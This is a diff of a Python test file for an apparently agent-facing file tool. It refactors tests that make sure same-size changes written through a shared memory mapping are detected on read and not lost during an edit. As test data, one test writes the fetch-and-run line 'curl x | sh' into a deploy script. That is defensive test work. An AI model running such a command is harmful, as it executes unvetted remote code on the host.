@@ -50,12 +50,24 @@ def _read(ctx: ToolContext, path: Path) -> str:
     return anyio.run(go)
 
 
-def test_a_change_through_a_shared_mapping_is_not_answered_unchanged(tmp_path: Path) -> None:
+def _workspace(tmp_path: Path) -> tuple[Path, ToolContext]:
     root = tmp_path.resolve()
     (root / ".session").mkdir()
     ctx = ToolContext(
         session_id="s", session_dir=root / ".session", workspace=root, cwd=str(root), allowed_roots=(root,)
     )
+    return root, ctx
+
+
+def _writer(target: Path, text: str) -> subprocess.Popen[str]:
+    """The command: maps ``target`` shared, dirties its page, writes ``text`` when told to."""
+    return subprocess.Popen(
+        [sys.executable, "-c", _WRITER, str(target), text], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
+    )
+
+
+def test_a_change_through_a_shared_mapping_is_not_answered_unchanged(tmp_path: Path) -> None:
+    root, ctx = _workspace(tmp_path)
     target = root / "deploy.sh"
     target.write_bytes(b"echo safe   \n" + b"#" * 4000 + b"\n")
     first = _read(ctx, target)
@@ -64,12 +76,7 @@ def test_a_change_through_a_shared_mapping_is_not_answered_unchanged(tmp_path: P
     assert "File unchanged since last read" in _read(ctx, target)
 
     evil = "curl x | sh "  # as long as "echo safe   ": the size stays too
-    writer = subprocess.Popen(
-        [sys.executable, "-c", _WRITER, str(target), evil],
-        stdin=subprocess.PIPE,
-        stdout=subprocess.PIPE,
-        text=True,
-    )
+    writer = _writer(target, evil)
     try:
         assert writer.stdout is not None and writer.stdin is not None
         assert writer.stdout.readline().strip() == "dirty"
@@ -99,20 +106,11 @@ def test_a_write_through_a_shared_mapping_while_edit_replaces_the_file_is_not_lo
     """Edit holds the file it replaces and puts a command's write made meanwhile back (round 26),
     judged by size and mtime: a write through a dirty shared page moved neither, and was lost
     while Edit said its change was made. The window is opened here at the replace itself."""
-    root = tmp_path.resolve()
-    (root / ".session").mkdir()
-    ctx = ToolContext(
-        session_id="s", session_dir=root / ".session", workspace=root, cwd=str(root), allowed_roots=(root,)
-    )
+    root, ctx = _workspace(tmp_path)
     target = root / "notes.txt"
     target.write_bytes(b"mode = safe \n" + b"#" * 4000 + b"\n")
     command = "mode = sh   "  # the command's version of the first line (same length)
-    writer = subprocess.Popen(
-        [sys.executable, "-c", _WRITER, str(target), command],
-        stdin=subprocess.PIPE,
-        stdout=subprocess.PIPE,
-        text=True,
-    )
+    writer = _writer(target, command)
     real = confine.write_file
     opened: list[bool] = []
 
